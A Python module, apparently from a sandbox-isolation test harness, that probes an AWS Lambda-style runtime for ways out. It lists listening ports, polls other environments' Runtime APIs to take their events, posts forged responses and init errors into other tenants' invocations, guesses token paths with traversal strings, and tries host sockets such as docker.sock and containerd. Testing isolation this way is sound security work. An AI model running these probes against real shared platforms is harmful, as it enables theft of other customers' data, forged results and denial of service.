"""Ways to other environments, and to processes of the host, by their sockets."""

import http.client
import os
import select
import socket
import time

from trying import way


def listening() -> set[tuple[str, int]]:
    """Addresses of this network namespace where somebody listens."""
    found = set()
    for name in ("tcp", "tcp6"):
        try:
            lines = open(f"/proc/net/{name}").readlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A":
                found.add(("127.0.0.1" if name == "tcp" else "::1", int(fields[1].rsplit(":", 1)[1], 16)))
    return found


def other_runtime_ports(targets) -> list[tuple[str, int]]:
    own = int(os.environ["AWS_LAMBDA_RUNTIME_API"].rsplit(":", 1)[1].partition("/")[0])
    api = int(targets["api"].rsplit(":", 1)[1])
    known = {("127.0.0.1", port) for port in targets["runtime_ports"]}
    return sorted(one for one in (listening() if not known else known & listening() | known) if one[1] not in (own, api))


def runtime_call(place, method: str, path: str, body: bytes = b"", wait: float = 0.3) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection(*place, timeout=wait)
    connection.request(method, f"/2018-06-01/runtime/{path}", body, {"Content-Type": "application/json"})
    answer = connection.getresponse()
    return answer.status, answer.read()


def poll_for_events(targets, paths: list[str], wait: float) -> list[str]:
    """Asks every other environment's Runtime API for its next event, and waits. Being let wait is no success yet."""
    connections, got = {}, []
    for place in other_runtime_ports(targets):
        for path in paths:
            try:
                connection = socket.create_connection(place, timeout=1)
                connection.sendall(f"GET {path} HTTP/1.1\r\nHost: {place[0]}:{place[1]}\r\n\r\n".encode())
                connections[connection] = f"{place} {path}"
            except OSError:
                pass
    until = time.monotonic() + wait
    while connections and time.monotonic() < until:
        for connection in select.select(list(connections), [], [], 0.1)[0]:
            try:
                answer = connection.recv(2000)
            except OSError:
                answer = b""
            asked = connections.pop(connection)
            if answer.startswith(b"HTTP/1.1 200"):
                got.append(f"{asked}: {answer[-200:]}")
    return got


@way("take the events of another environment")
def _(targets):
    return poll_for_events(targets, ["/2018-06-01/runtime/invocation/next"], 2.5)


@way("answer for another environment")
def _(targets):
    got = []
    for place in other_runtime_ports(targets):
        for action in ("response", "error"):
            for request in targets["requests"]:
                try:
                    status, text = runtime_call(place, "POST", f"invocation/{request}/{action}", b'"forged"')
                except (OSError, http.client.HTTPException):
                    continue
                if status < 300:
                    got.append(f"{place} {action}: {status} {text[:100]}")
    return got


@way("end another environment by an error of its start")
def _(targets):
    got = []
    for place in other_runtime_ports(targets):
        try:
            status, _ = runtime_call(place, "POST", "init/error", b'{"errorMessage":"forged"}')
        except (OSError, http.client.HTTPException):
            continue
        if status < 300:
            got.append(f"{place}: {status}")
    return got


@way("use another environment's Runtime API with guesses at its token")
def _(targets):
    rest = os.environ["AWS_LAMBDA_RUNTIME_API"].partition("/")[2] or "0"
    return poll_for_events(targets, [f"/{prefix}/2018-06-01/runtime/invocation/next"
                                     for prefix in (rest, rest[:-1], rest + "0", "..", "%2e%2e", ".", "")], 2.5)


@way("reach abstract sockets of the host")
def _(targets):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        connection.connect("\0" + targets["abstract"])
        return connection.recv(100)


@way("reach named sockets of the host")
def _(targets):
    got = []
    for path in (targets["unix"], "/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock",
                 "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/journal/stdout", "/dev/log"):
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(path)
                got.append(path)
        except OSError:
            pass
    return got
